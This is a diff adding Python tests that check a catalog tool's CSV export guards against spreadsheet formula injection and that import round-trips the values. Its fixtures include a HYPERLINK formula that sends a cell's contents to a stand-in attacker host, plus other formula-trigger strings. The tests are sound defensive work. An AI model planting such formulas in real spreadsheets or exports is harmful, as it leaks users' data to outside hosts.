@@ -198,3 +198,62 @@ def test_export_import_through_the_installed_command(tmp_path):
     p = subprocess.run([exe, "catalog", "import", str(write(tmp_path / "b.csv", ["X,,,,,each,1,0,,,,0,0,,"])),
                         "--data-dir", str(tmp_path / "hub")], capture_output=True, text=True, timeout=60)
     assert p.returncode == 1 and "row 2: name_en" in p.stderr
+
+
+# ---------------------------------------------------------------- spreadsheet formula injection
+HOSTILE = {   # sku -> (name_en, name_zh, brand, category)
+    "=HYPERLINK": ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(1+1)"),
+    "Q-PLAIN": ("'quoted but harmless", "''=already quoted twice", "'@mention", "'-minus"),
+    "-SKU": ("Normal name", "正常", "Brand", "Grocery"),
+}
+
+
+def test_formula_guard_rule_is_its_own_inverse():
+    for v in ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "'=1", "''+1", "'plain", "plain", "", "a=b", "'"]:
+        guarded = catalog_csv.guard_formula(v)
+        assert catalog_csv.unguard_formula(guarded) == v
+        assert not guarded.startswith(catalog_csv.FORMULA_TRIGGERS)
+    assert catalog_csv.guard_formula("\tcmd") == "'\tcmd" and catalog_csv.guard_formula("\r=1") == "'\r=1"
+    assert catalog_csv.guard_formula("'plain") == "'plain" and catalog_csv.unguard_formula("'plain") == "'plain"
+
+
+def test_export_neutralises_formulas_and_import_round_trips_them(tmp_path):
+    db1 = make_hub(tmp_path / "hub1")
+    with db1.write() as conn:
+        for sku, (en, zh, brand, cat) in HOSTILE.items():
+            catalog.create_item(conn, {"sku": sku, "name_en": en, "name_zh": zh, "brand": brand, "category": cat,
+                                       "price_minor": 100}, actor="test")
+    out = tmp_path / "export.csv"
+    assert invoke("catalog", "export", out, "--data-dir", tmp_path / "hub1", "--no-bom").exit_code == 0
+    rows = list(csv.reader(open(out, encoding="utf-8", newline="")))
+    header = rows[0]
+    text_idx = [header.index(c) for c in catalog_csv.TEXT_COLUMNS]
+    for row in rows[1:]:
+        for i in text_idx:
+            assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), (header[i], row[i])
+    by_sku = {r[0]: dict(zip(header, r)) for r in rows[1:]}
+    assert by_sku["'=HYPERLINK"]["name_en"].startswith("'=HYPERLINK(")
+    assert by_sku["'=HYPERLINK"]["name_zh"] == "'+1+1" and by_sku["'=HYPERLINK"]["category"] == "'@SUM(1+1)"
+    assert by_sku["Q-PLAIN"]["name_en"] == "'quoted but harmless"          # no trigger after the quote: as is
+    assert by_sku["Q-PLAIN"]["name_zh"] == "'''=already quoted twice"      # one more quote, removed on import
+    assert by_sku["'-SKU"]["price_minor"] == "100"                          # numbers are never quoted
+    db2 = make_hub(tmp_path / "hub2")
+    res = invoke("catalog", "import", out, "--data-dir", tmp_path / "hub2")
+    assert res.exit_code == 0, res.output
+    assert snapshot(db1) == snapshot(db2)
+    got = {i["sku"]: i for i in snapshot(db2)}
+    assert got["=HYPERLINK"]["name_en"] == HOSTILE["=HYPERLINK"][0] and got["-SKU"]["name_en"] == "Normal name"
+    # A second export is byte-identical: the guard is applied once, never stacked.
+    out2 = tmp_path / "export2.csv"
+    invoke("catalog", "export", out2, "--data-dir", tmp_path / "hub2", "--no-bom")
+    assert out.read_bytes() == out2.read_bytes()
+
+
+def test_hand_made_file_with_guard_quotes_imports_the_plain_values(tmp_path):
+    db = make_hub(tmp_path / "hub")
+    f = write(tmp_path / "q.csv", ["'=SKU-1,'+44 tea,'plain quote,'@brand,'-cat,each,100,0,,false,,0,0,,true"])
+    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
+    assert res.exit_code == 0, res.output
+    item = snapshot(db)[0]
+    assert (item["sku"], item["name_en"], item["name_zh"], item["brand"], item["category"]) == \
+        ("=SKU-1", "+44 tea", "'plain quote", "@brand", "-cat")
